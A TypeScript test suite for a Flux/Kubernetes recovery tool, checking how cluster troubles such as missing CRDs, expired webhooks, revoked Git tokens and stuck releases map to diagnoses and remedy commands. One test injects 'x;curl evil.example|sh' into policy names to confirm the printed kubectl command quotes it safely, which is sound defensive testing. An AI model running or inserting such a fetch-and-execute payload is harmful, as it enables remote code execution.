import { describe, expect, test } from 'vitest'
import { parseObject } from '../../../../lib/kubernetes/objects.ts'
import { parseFluxObject } from '../../../../lib/flux/object.ts'
import type { Trouble } from '../../../../lib/health/probe.ts'
import { fluxKinds } from '../../../../lib/flux/kinds.ts'
import type { Installation } from '../../../../lib/flux/installation.ts'
import { problems } from '../../../../lib/health/problems.ts'
import { diagnose } from '../../../../lib/commands/recover/diagnosis.ts'
import { failureModes } from '../../../../lib/commands/recover/failures.ts'
import type { Evidence } from '../../../../lib/commands/recover/evidence.ts'
import { checkStuck } from '../../../../lib/commands/recover/steps/stuck-release.ts'
import { inLayers } from '../../../../lib/commands/recover/layers.ts'
import type { Remedies } from '../../../../lib/commands/recover/remedies.ts'
import type { Step } from '../../../../lib/runner/step.ts'
import { snapshotOf } from '../../health/found-by.ts'

const namespace = 'flux-system'
const object = (kind: string, name: string, spec: object = {}) =>
  parseFluxObject({ metadata: { namespace, name }, spec }, { apiVersion: 'v1', kind }, true)
const objects = [
  object('HelmRelease', 'flux-operator'),
  object('HelmRelease', 'flux-instance'),
  object('GitRepository', namespace, { secretRef: { name: 'flux-git' } }),
]
const instance = (annotations: Record<string, string> = {}) =>
  parseObject({
    apiVersion: 'fluxcd.controlplane.io/v1',
    kind: 'FluxInstance',
    metadata: { namespace, name: 'flux', annotations, labels: { 'helm.toolkit.fluxcd.io/name': 'flux-instance' } },
  })

const terminating = parseObject({
  apiVersion: 'fluxcd.controlplane.io/v1',
  kind: 'FluxInstance',
  metadata: { namespace, name: 'flux', deletionTimestamp: '2026-11-29T00:00:00Z' },
})

const installation: Installation = {
  installedBy: 'operator',
  version: '2.9.5',
  namespace,
  components: ['source-controller', 'helm-controller'],
  shards: [],
  shardLabel: 'sharding.fluxcd.io/key',
  expectsOperator: true,
  follows: {
    source: { ...fluxKinds.gitRepository, namespace, name: namespace },
    root: { ...fluxKinds.kustomization, namespace, name: namespace },
    url: 'https://git.example.com/fleet.git',
    ref: 'refs/heads/main',
    appliesItself: false,
  },
}
const uncalled =
  'ReconciliationFailed: dry-run failed (InternalError): failed calling webhook "x.example.com": x509: certificate has expired'
const healthy: Evidence = {
  probed: [],
  installation,
  namespace,
  terminating: undefined,
  isEmpty: false,
  hasCrds: true,
  hasOperator: true,
  instance: instance(),
  upgrade: undefined,
  controllers: { wanted: ['source-controller', 'helm-controller'], there: ['source-controller', 'helm-controller'] },
  objects: new Map(objects.map((one) => [one.name, one])),
}
const byCli: Partial<Evidence> = {
  installation: { ...installation, installedBy: 'cli', expectsOperator: false },
  instance: undefined,
  hasOperator: false,
  objects: new Map(),
}
const upgrade = { from: '2.9.4', to: '2.9.5' }
const old: Trouble = { object: 'Deployment x', reason: 'runs y; 0 of 1 pods available: ImagePullBackOff', problem: problems.oldVersion }
const crashing: Trouble = { object: 'Deployment flux-system/x', reason: '0 of 1 pods available: CrashLoopBackOff' }
const alteredByHand: Trouble = {
  object: 'Deployment flux-system/x',
  reason: 'fields of it belong to kubectl-edit, not to Flux',
  damage: 'part-altered',
}
const seenOfController = (failing: Trouble, ...noted: readonly Trouble[]): Pick<Evidence, 'probed'> => ({
  probed: [
    { id: 'controllers', title: 'Controllers', state: 'fail', detail: '', objects: [failing] },
    { id: 'inventory', title: 'Installed objects', state: 'warn', detail: '', objects: noted },
  ],
})
const seen = (id: string, ...troubles: readonly Trouble[]): Pick<Evidence, 'probed'> => ({
  probed: [{ id, title: id, state: 'fail', detail: '', objects: troubles }],
})
/** A CRD of the operator's that does not exist, or is being deleted since then. */
const goneCrd = (plural: string, since?: string): Trouble => ({
  object: `CustomResourceDefinition ${plural}.fluxcd.controlplane.io`,
  reason: since === undefined ? 'does not exist' : 'is being deleted, and every object of its kind',
  ...(since === undefined ? {} : { since }),
  damage: 'crd-gone',
})

test.each<[string, Partial<Evidence>, string[]]>([
  ['nothing', {}, []],
  ['an empty cluster', { hasCrds: false, isEmpty: true, hasOperator: false, instance: undefined }, ['cluster-emptied']],
  ['one without CRDs', { hasCrds: false, hasOperator: false, instance: undefined }, ['flux-deleted']],
  [
    'neither operator nor controllers',
    { hasOperator: false, controllers: { ...healthy.controllers, there: [] } },
    ['operator-and-controllers-deleted'],
  ],
  [
    'a namespace that its finalizers hold',
    { terminating: { isHeld: true, because: 'it is being deleted' }, instance: undefined, hasOperator: false },
    ['namespace-deleted'],
  ],
  [
    'a namespace that finalizers will hold as soon as its controller looks',
    { terminating: { isHeld: false, because: 'it is being deleted' } },
    ['namespace-deleted'],
  ],
  [
    'a namespace that disappears by itself',
    { terminating: { isHeld: false, because: 'it is being deleted' }, hasCrds: false, instance: undefined, hasOperator: false },
    ['flux-deleted'],
  ],
  ['a FluxInstance that is being deleted', { instance: terminating }, ['instance-terminating']],
  [
    'one that is being deleted, with nobody there, and disabled before',
    {
      instance: { ...terminating, metadata: { ...terminating.metadata, annotations: { 'fluxcd.controlplane.io/reconcile': 'disabled' } } },
      hasOperator: false,
      controllers: { ...healthy.controllers, there: [] },
    },
    ['instance-terminating'],
  ],
  [
    'nobody there, and the FluxInstance suspended, which is to be resumed',
    {
      instance: instance({ 'fluxcd.controlplane.io/reconcile': 'disabled' }),
      resumesInstance: true,
      hasOperator: false,
      controllers: { ...healthy.controllers, there: [] },
    },
    ['operator-and-controllers-deleted', 'instance-suspended'],
  ],
  ['no FluxInstance', { instance: undefined }, ['instance-deleted']],
  ['no operator', { hasOperator: false }, ['operator-deleted']],
  [
    'no operator and one controller less',
    { hasOperator: false, controllers: { ...healthy.controllers, there: ['helm-controller'] } },
    ['operator-deleted', 'controllers-deleted'],
  ],
  ['a controller less', { controllers: { ...healthy.controllers, there: ['helm-controller'] } }, ['controllers-deleted']],
  ['a suspended FluxInstance', { instance: instance({ 'fluxcd.controlplane.io/reconcile': 'disabled' }) }, []],
  [
    'one that the person says to resume',
    { instance: instance({ 'fluxcd.controlplane.io/reconcile': 'disabled' }), resumesInstance: true },
    ['instance-suspended'],
  ],
  ['no login for Git', seen('secrets', { object: 'Secret flux-system/flux-git', reason: 'does not exist' }), ['git-credentials-gone']],
  ["someone else's Secret missing", seen('secrets', { object: 'Secret apps/shop', reason: 'does not exist' }), []],
  [
    'a login that Git refuses',
    seen('sources', {
      object: 'GitRepository flux-system/flux-system',
      reason: 'GitOperationFailed: authentication required: Unauthorized',
    }),
    ['git-credentials-wrong'],
  ],
  [
    'a token that was revoked, at a host that hides what is private',
    seen('sources', {
      object: 'GitRepository flux-system/flux-system',
      reason: 'GitOperationFailed: failed to checkout and determine revision: unable to list remote: repository not found',
    }),
    ['git-credentials-wrong'],
  ],
  [
    'a Git that does not answer',
    seen('sources', { object: 'GitRepository flux-system/flux-system', reason: 'GitOperationFailed: connection refused' }),
    [],
  ],
  ['no HelmRelease of the FluxInstance', { objects: new Map() }, ['instance-release-deleted']],
  [
    'one that is being deleted, and held',
    {
      objects: new Map(
        ['flux-operator', 'flux-instance'].map((name) => {
          const metadata = { namespace, name, deletionTimestamp: '2026-11-30T00:00:00Z' }
          return [
            `HelmRelease ${namespace}/${name}`,
            parseFluxObject({ metadata, spec: {} }, { apiVersion: 'v1', kind: 'HelmRelease' }, true),
          ]
        }),
      ),
    },
    ['instance-release-deleted'],
  ],
  [
    'a FluxInstance that no HelmRelease has made',
    { objects: new Map(), instance: parseObject({ ...instance(), metadata: { namespace, name: 'flux' } }) },
    [],
  ],
  ['a Flux that the flux CLI has installed', { ...byCli }, []],
  ['one without a controller', { ...byCli, controllers: { ...healthy.controllers, there: ['helm-controller'] } }, ['controllers-deleted']],
  ['one without any', { ...byCli, controllers: { ...healthy.controllers, there: [] } }, ['controllers-deleted']],
  [
    'a stalled FluxInstance',
    seen('instance', { object: 'FluxInstance flux-system/flux', reason: 'stalled', problem: problems.instanceFailing }),
    ['instance-stalled'],
  ],
  [
    'old controllers',
    seen('controllers', { object: 'Deployment x', reason: 'runs y', problem: problems.oldVersion }),
    ['controllers-outdated'],
  ],
  [
    'an upgrade that is under way',
    { upgrade, ...seen('controllers', { ...old, reason: 'runs y; the FluxInstance says x' }) },
    ['controllers-outdated'],
  ],
  ['one whose image cannot be pulled', { upgrade, ...seen('controllers', old) }, ['upgrade-broken']],
  [
    'one to a version that the operator does not know',
    { upgrade, ...seen('instance', { object: 'FluxInstance flux-system/flux', reason: 'stalled', problem: problems.instanceFailing }) },
    ['upgrade-broken'],
  ],
  [
    'one that was stopped by hand',
    { upgrade, instance: instance({ 'fluxcd.controlplane.io/reconcile': 'disabled' }), ...seen('controllers', old), resumesInstance: true },
    ['instance-suspended', 'controllers-outdated'],
  ],
  [
    'a release left pending',
    seen('helmreleases', {
      object: 'HelmRelease apps/shop',
      cause: 'pending-release',
      reason: 'Helm release shop is pending-upgrade at revision 7, and no controller is working on it',
    }),
    ['release-pending'],
  ],
  [
    'a HelmRelease without its source',
    seen('helmreleases', {
      object: 'HelmRelease apps/shop',
      cause: 'missing',
      reason: 'needs OCIRepository apps/shop, which does not exist',
    }),
    [],
  ],
  [
    'a HelmRelease that only waits for another',
    seen('helmreleases', { object: 'HelmRelease apps/shop', reason: 'only waits for HelmRelease apps/stalled: Failed: x' }),
    [],
  ],
  [
    'a webhook without an endpoint',
    seen('webhooks', { object: 'ValidatingWebhookConfiguration policy', reason: 'refuses all', damage: 'webhook-unanswered' }),
    ['webhook-orphaned'],
  ],
  [
    'one beside a Flux that is gone',
    {
      hasCrds: false,
      hasOperator: false,
      instance: undefined,
      ...seen('webhooks', { object: 'ValidatingWebhookConfiguration policy', reason: 'refuses all', damage: 'webhook-unanswered' }),
    },
    ['flux-deleted', 'webhook-orphaned'],
  ],
  ['one that Flux is not asked about', seen('webhooks', { object: 'ValidatingWebhookConfiguration policy', reason: 'refuses some' }), []],
  [
    'one whose certificates have expired',
    seen('certificates', { object: 'ValidatingWebhookConfiguration policy', reason: 'expired', damage: 'webhook-expired' }),
    ['webhook-expired'],
  ],
  [
    'a quota of 0',
    seen('namespace', { object: 'ResourceQuota flux-system/none', reason: 'limits pods to 0', damage: 'quota' }),
    ['quota-zero'],
  ],
  [
    'a CRD less',
    seen('crds', {
      object: 'CustomResourceDefinition buckets.x',
      reason: 'does not exist, and neither does any object of its kind',
      damage: 'crd-gone',
    }),
    ['crds-deleted'],
  ],
  [
    'all CRDs being deleted, with the FluxInstance and what reconciles it',
    {
      ...seen('crds', goneCrd('fluxinstances', '2026-11-29T00:00:00Z'), goneCrd('fluxreports')),
      instance: terminating,
      hasOperator: false,
      controllers: { ...healthy.controllers, there: [] },
    },
    ['all-crds-deleted'],
  ],
  [
    "the FluxInstance's CRD gone, and others held",
    { ...seen('crds', goneCrd('fluxinstances'), goneCrd('resourcesets', '2026-11-29T00:00:00Z')), instance: undefined },
    ['all-crds-deleted'],
  ],
  ["the FluxInstance's CRD gone, and none held", { ...seen('crds', goneCrd('fluxinstances')), instance: undefined }, ['instance-deleted']],
  ['another CRD being deleted', seen('crds', goneCrd('resourcesets', '2026-11-29T00:00:00Z')), ['crds-deleted']],
  [
    'a controller scaled to 0',
    seen('controllers', { object: 'Deployment flux-system/x', reason: 'is scaled to 0: its work is not done', damage: 'scaled-to-zero' }),
    ['scaled-to-zero'],
  ],
  ['a controller that someone has altered, and that fails', seenOfController(crashing, alteredByHand), ['controllers-altered']],
  ['one that fails, unaltered', seenOfController(crashing), []],
  ['one that fails, with another altered', seenOfController(crashing, { ...alteredByHand, object: 'Deployment flux-system/y' }), []],
  [
    'a ServiceAccount less',
    seen('inventory', {
      object: 'ServiceAccount flux-system/x',
      reason: 'does not exist; FluxInstance x has installed it',
      damage: 'part-gone',
    }),
    ['parts-gone'],
  ],
  [
    'a NetworkPolicy less',
    seen('network-policies', { object: 'NetworkPolicy flux-system/allow-egress', reason: 'does not exist', damage: 'part-gone' }),
    ['parts-gone'],
  ],
  ['one that nobody keeps', seen('network-policies', { object: 'NetworkPolicy flux-system/allow-egress', reason: 'does not exist' }), []],
  [
    'a record of Helm that cannot be read',
    seen('inventory', {
      object: 'Secret flux-system/sh.helm.release.v1.flux-operator.v1',
      reason: 'cannot be read: it holds no release',
      damage: 'release-unreadable',
    }),
    ['release-unreadable'],
  ],
  [
    'an aggregated API that does not answer',
    seen('api', { object: 'APIService v1.example.com', reason: 'is not available', damage: 'api-unavailable' }),
    ['api-unavailable'],
  ],
  [
    'one beside a Flux that is gone',
    {
      hasCrds: false,
      hasOperator: false,
      instance: undefined,
      ...seen('api', { object: 'APIService v1.example.com', reason: 'is not available', damage: 'api-unavailable' }),
    },
    ['flux-deleted', 'api-unavailable'],
  ],
  [
    'a second FluxInstance',
    seen('instance', { object: 'FluxInstance other/flux', reason: 'is ignored', damage: 'instance-ignored' }),
    ['instance-ignored'],
  ],
  [
    'a controller on a node that does not answer',
    seen('controllers', { object: 'Deployment flux-system/x', reason: '0 of 1 pods available', damage: 'node-lost' }),
    ['node-lost'],
  ],
  [
    'an artifact that source-controller has lost',
    seen('helmreleases', { object: 'HelmRelease flux-system/x', cause: 'artifact-lost', reason: 'has no artifact' }),
    ['artifacts-lost'],
  ],
  [
    'a cluster that was restored from a backup',
    seen('api', { object: 'API', reason: 'has data of version 7, and had 9', damage: 'data-older' }),
    ['cluster-restored'],
  ],
  [
    'a history that was rewritten',
    seen('revision', { object: 'GitRepository flux-system/flux-system', reason: 'was rewritten', damage: 'history-rewritten' }),
    ['git-history-rewritten'],
  ],
  [
    'a host key that Flux does not know',
    seen('sources', {
      object: 'GitRepository flux-system/flux-system',
      reason: "GitOperationFailed: failed to checkout: unable to clone: 'ssh: handshake failed: knownhosts: key mismatch'",
    }),
    ['git-host-key'],
  ],
  [
    'a commit that Git has not got any more',
    seen('sources', {
      object: 'GitRepository flux-system/flux-system',
      reason: 'GitOperationFailed: failed to resolve commit: object not found',
    }),
    ['git-branch-gone'],
  ],
  [
    'a branch that is gone',
    seen('sources', {
      object: 'GitRepository flux-system/flux-system',
      reason: 'GitOperationFailed: couldn\'t find remote ref "refs/heads/main"',
    }),
    ['git-branch-gone'],
  ],
  [
    'a ref that is gone, by its full name, as the operator writes it',
    seen('sources', {
      object: 'GitRepository flux-system/flux-system',
      reason: "GitOperationFailed: failed to checkout and determine revision: unable to resolve ref 'refs/heads/main' to a specific commit",
    }),
    ['git-branch-gone'],
  ],
  [
    'the only branch gone: nothing is left in the repository',
    seen('sources', {
      object: 'GitRepository flux-system/flux-system',
      reason: "GitOperationFailed: failed to checkout and determine revision: unable to list remote for 'x': remote repository is empty",
    }),
    ['git-branch-gone'],
  ],
  [
    'a certificate that has expired',
    seen('sources', {
      object: 'GitRepository flux-system/flux-system',
      reason: 'GitOperationFailed: x509: certificate has expired or is not yet valid',
    }),
    ['git-certificate'],
  ],
  [
    'a chart that the registry has not got any more',
    seen('sources', {
      object: 'OCIRepository flux-system/flux-operator',
      reason: 'OCIArtifactPullFailed: MANIFEST_UNKNOWN: manifest unknown',
    }),
    ['artifact-gone'],
  ],
  [
    'a policy that denies',
    seen('controllers', {
      object: 'Deployment flux-system/x',
      reason: `0 of 1 pods available: pods "x" is forbidden: ValidatingAdmissionPolicy 'no-latest' with binding 'all' denied request: no`,
    }),
    ['admission-refuses'],
  ],
  [
    'one that keeps the FluxInstance from being Ready: to apply it again is not a remedy',
    seen('instance', {
      object: 'FluxInstance flux-system/flux',
      reason: "ReconciliationFailed: Deployment/flux-system/x: ValidatingAdmissionPolicy 'frozen' with binding 'frozen' denied request: no",
      problem: problems.instanceFailing,
    }),
    ['admission-refuses'],
  ],
  [
    'a webhook that keeps the FluxInstance from being Ready: once it is gone, nothing else is to be repaired',
    {
      probed: [
        ...seen('certificates', { object: 'ValidatingWebhookConfiguration x', reason: 'expired', damage: 'webhook-expired' }).probed,
        ...seen('instance', { object: 'FluxInstance flux-system/flux', reason: uncalled, problem: problems.instanceFailing }).probed,
      ],
    },
    ['webhook-expired'],
  ],
  [
    'one that is not known to be at fault',
    seen('instance', { object: 'FluxInstance flux-system/flux', reason: uncalled, problem: problems.instanceFailing }),
    ['instance-stalled'],
  ],
  ['a loop', seen('loop', { object: 'ConfigMap apps/shop', reason: 'was changed', problem: 'Recursive reconciliation loop' }), ['loop']],
])('%s', (_, evidence, ids) => {
  expect(diagnose({ ...healthy, ...evidence }).map(({ mode }) => mode.id)).toEqual(ids)
})

test('a loop that an earlier run has suspended is continued, though it cannot be seen any more', () => {
  expect(diagnose(healthy, ['loop']).map(({ mode }) => mode.id)).toEqual(['loop'])
})

test('a FluxInstance that is being deleted is reported with what follows', () => {
  expect(diagnose({ ...healthy, instance: terminating }).map(({ because }) => because)).toEqual([
    'it is being deleted since 2026-11-29T00:00:00Z: the operator will uninstall Flux as soon as it runs',
  ])
})

test.each([
  [
    'a branch',
    "couldn't find remote ref",
    'git push https://git.example.com/fleet.git COMMIT:refs/heads/main   # COMMIT: what the root Kustomization applied last, from any clone',
  ],
  [
    'a policy',
    "ValidatingAdmissionPolicy 'no-latest' with binding 'all' denied request: no",
    "exclude Flux's namespace from it, or change Git to what it allows: kubectl get validatingadmissionpolicy no-latest --output yaml",
  ],
])('what is lost outside is named with what brings it back: %s', (_, reason, remedy) => {
  const probes = ['sources', 'instance'].flatMap((id) => seen(id, { object: 'x', reason }).probed)
  const [found] = diagnose({ ...healthy, probed: probes })
  expect(() => found?.mode.remedy(remediesWith({ evidence: { ...healthy, probed: probes } }))).toThrow(expect.objectContaining({ remedy }))
})

test('a FluxInstance that a webhook kept from being Ready is asked to try again once that is gone', async () => {
  const webhook = seen('certificates', { object: 'ValidatingWebhookConfiguration x', reason: 'expired', damage: 'webhook-expired' }).probed
  const failing = seen('instance', { object: 'FluxInstance flux-system/flux', reason: uncalled }).probed
  const stepsOf = async (probed: Evidence['probed']): Promise<string[]> => {
    const evidence = { ...healthy, probed }
    const remedies = remediesWith({ evidence, takeSnapshot: () => snapshotOf([]) })
    const found = await diagnose(evidence)[0]?.mode.remedy(remedies)
    return inLayers(found === undefined ? [] : [found]).map(({ id }) => id)
  }
  expect(await stepsOf([...webhook, ...failing])).toEqual(['refused', 'instance-ready'])
  expect(await stepsOf(webhook)).toEqual([])
})

test.each([
  [
    "ValidatingAdmissionPolicy 'x;curl evil.example|sh' with binding 'all' denied request: no",
    "kubectl get validatingadmissionpolicy 'x;curl evil.example|sh' --output yaml",
  ],
  [
    'admission webhook "x\ncurl evil.example|sh" denied the request: no',
    'kubectl get validatingwebhookconfigurations,mutatingwebhookconfigurations   # the webhook x curl evil.example|sh',
  ],
])('what a condition calls a policy is one word of the command, and no line of its own: %j', (reason, command) => {
  const evidence = { ...healthy, ...seen('controllers', { object: 'Deployment flux-system/x', reason }) }
  const remedy = `exclude Flux's namespace from it, or change Git to what it allows: ${command}`
  expect(() => diagnose(evidence)[0]?.mode.remedy(remediesWith({ evidence }))).toThrow(expect.objectContaining({ remedy }))
})

test("a branch that another source than Flux's own fetches is pushed to where that fetches from", () => {
  const shop = parseFluxObject({ metadata: { namespace: 'apps', name: 'shop' }, spec: {} }, fluxKinds.gitRepository, true)
  const { probed } = seen('sources', { object: shop.name, reason: "couldn't find remote ref" })
  const evidence = { ...healthy, probed, objects: new Map([...healthy.objects, [shop.name, shop]]) }
  const remedy =
    'git push URL COMMIT:refs/heads/BRANCH   # as in: kubectl --namespace apps get gitrepository.source.toolkit.fluxcd.io shop --output yaml'
  expect(() => diagnose(evidence)[0]?.mode.remedy(remediesWith({ evidence }))).toThrow(expect.objectContaining({ remedy }))
})

const step = (id: string, title = id): Step => ({
  id,
  title,
  risk: 'change',
  check: () => Promise.resolve({ is: 'done', detail: '' }),
  apply: () => Promise.resolve(),
})
const none = (): Promise<readonly Step[]> => Promise.resolve([])
const remediesWith = (more: Partial<Remedies>): Remedies => ({
  evidence: healthy,
  clusterFolder: () => 'infra',
  takeSnapshot() {
    throw new Error('nothing is read')
  },
  everything: none,
  recreateNamespace: none,
  recreateInstance: none,
  recreateCrds: none,
  operator: none,
  instance: none,
  rollBack: none,
  rollback: () => undefined,
  gitLogin: none,
  reinstall: none,
  verifyNothingPending: () => Promise.resolve(),
  endLoop: none,
  notices: () => [],
  ...more,
})

describe('the steps of several remedies', () => {
  test('logins come first, Ready last, and what several ask for is done once', () => {
    const steps = inLayers([
      { instance: [step('resume')], ready: [step('ready')] },
      { controllers: [step('controllers')] },
      { logins: [step('login')], fetch: [step('fetch')] },
      { operator: [step('operator')] },
      { instance: [step('instance')], controllers: [step('controllers')], ready: [step('ready')] },
    ])
    expect(steps.map(({ id }) => id)).toEqual(['login', 'operator', 'resume', 'instance', 'controllers', 'fetch', 'ready'])
  })
  test('two of one name in two namespaces are two', () => {
    const steps = inLayers([{ releases: [step('release-shop', 'take a/shop up'), step('release-shop', 'take b/shop up')] }])
    expect(steps.map(({ title }) => title)).toEqual(['take a/shop up', 'take b/shop up'])
  })
  test('a release that helm-controller is processing again is waited for, and one that it gave up is forced', () => {
    const ref = { ...fluxKinds.helmRelease, namespace: 'shop', name: 'shop' }
    const release = parseObject({ ...ref, metadata: { namespace: 'shop', name: 'shop' } })
    const reason = 'tries again after 1 failures: Progressing'
    expect(checkStuck(ref, { cause: 'retrying', reason }, release)).toEqual({ is: 'waiting', on: `HelmRelease shop/shop: ${reason}` })
    expect(checkStuck(ref, { cause: 'stalled', reason: 'stalled' }, release)).toEqual({
      is: 'todo',
      change: 'force HelmRelease shop/shop again: stalled',
      commands: ['flux --namespace shop reconcile helmrelease shop --force --reset'],
    })
  })

  test('a release that a person has suspended meanwhile is neither forced nor waited for', () => {
    const ref = { ...fluxKinds.helmRelease, namespace: 'shop', name: 'shop' }
    const managedFields = [{ manager: 'flux', fieldsV1: { 'f:spec': { 'f:suspend': {} } } }]
    const release = parseObject({ ...ref, metadata: { namespace: 'shop', name: 'shop', managedFields }, spec: { suspend: true } })
    const detail = 'HelmRelease shop/shop is suspended by flux (flux CLI), and is left so'
    expect(checkStuck(ref, { cause: 'stalled', reason: 'stalled' }, release)).toEqual({ is: 'done', detail })
  })

  test('stuck releases follow those that they depend on', async () => {
    const stuck = ['a', 'b', 'c'].map((name) => ({
      object: `HelmRelease apps/${name}`,
      cause: 'stalled' as const,
      reason: 'stalled: RetriesExceeded',
    }))
    const release = (name: string, on?: string) =>
      parseFluxObject(
        { metadata: { namespace: 'apps', name }, spec: on === undefined ? {} : { dependsOn: [{ name: on }] } },
        { apiVersion: 'v1', kind: 'HelmRelease' },
        true,
      )
    const releases = [release('a', 'b'), release('b', 'c'), release('c', 'a')]
    const evidence = { ...healthy, ...seen('helmreleases', ...stuck), objects: new Map(releases.map((one) => [one.name, one])) }
    const remedy = failureModes.find(({ id }) => id === 'release-pending')?.remedy
    const { releases: steps = [] } = (await remedy?.(remediesWith({ evidence }))) ?? {}
    expect(steps.map(({ title }) => title)).toEqual(['c', 'b', 'a'].map((name) => `Have helm-controller retry HelmRelease apps/${name}`))
  })
})

describe('the FluxInstance as in Git', () => {
  const release = (spec: object) =>
    parseFluxObject(
      {
        metadata: {
          namespace,
          name: 'flux-instance',
          managedFields: [{ manager: 'flux', fieldsV1: { 'f:spec': { 'f:suspend': {} } }, time: '2026-11-30T01:00:00Z' }],
        },
        spec,
      },
      fluxKinds.helmRelease,
      true,
    )
  const labels = { 'helm.toolkit.fluxcd.io/name': 'flux-instance', 'helm.toolkit.fluxcd.io/namespace': namespace }
  const remedyFor = (spec: object, more: Partial<Evidence> = {}) => {
    const evidence: Evidence = {
      ...healthy,
      instance: parseObject({ ...fluxKinds.fluxInstance, metadata: { namespace, name: 'flux', labels } }),
      objects: new Map([release(spec)].map((one) => [one.name, one])),
      ...more,
    }
    const mode = failureModes.find(({ id }) => id === 'instance-stalled')
    const takeSnapshot = () => snapshotOf([])
    return Promise.resolve(mode?.remedy(remediesWith({ evidence, takeSnapshot, instance: () => Promise.resolve([step('flux-instance')]) })))
  }
  test('is not applied where a person keeps that away from it', async () => {
    await expect(remedyFor({ suspend: true })).rejects.toMatchObject({
      message:
        'the FluxInstance is applied from Git only while nothing on the way is stopped, and HelmRelease flux-system/flux-instance is suspended by flux (flux CLI) since 2026-11-30T01:00:00Z',
      remedy: 'find out why, then: npx zx scripts/recover.ts --context infra --resume-suspended HelmRelease/flux-system/flux-instance',
    })
  })
  test('is applied where nobody does, or the person says to resume it', async () => {
    expect(await remedyFor({})).toMatchObject({ instance: [{ id: 'flux-instance' }] })
    const resumed = [{ ...fluxKinds.helmRelease, namespace, name: 'flux-instance' }]
    expect(await remedyFor({ suspend: true }, { resumed })).toMatchObject({ instance: [{ id: 'flux-instance' }] })
  })
})

describe('a deleted operator', () => {
  const release = (ready: string) =>
    parseFluxObject(
      { metadata: { namespace, name: 'flux-operator' }, status: { conditions: [{ type: 'Ready', status: ready }] } },
      { apiVersion: 'v1', kind: 'HelmRelease' },
      true,
    )
  const remedyFor = async (more: Partial<Evidence>): Promise<string[]> => {
    const objects = new Map([release('True')].map((one) => [one.name, one]))
    const remedy = failureModes.find(({ id }) => id === 'operator-deleted')?.remedy
    const remedies = remediesWith({ evidence: { ...healthy, objects, ...more }, operator: () => Promise.resolve([step('flux-operator')]) })
    return ((await remedy?.(remedies))?.operator ?? []).map(({ id }) => id)
  }
  test('is left to helm-controller, where that can recreate it', async () => {
    expect(await remedyFor({})).toEqual(['operator'])
  })
  test.each<[string, Partial<Evidence>]>([
    ['source-controller is gone, which has its chart', { controllers: { ...healthy.controllers, there: ['helm-controller'] } }],
    ['helm-controller is not available', seen('controllers', { object: 'Deployment flux-system/helm-controller', reason: '0 of 1' })],
    ['its HelmRelease fails', { objects: new Map([release('False')].map((one) => [one.name, one])) }],
  ])('is installed, where %s', async (_, more) => {
    expect(await remedyFor(more)).toEqual(['flux-operator'])
  })
})
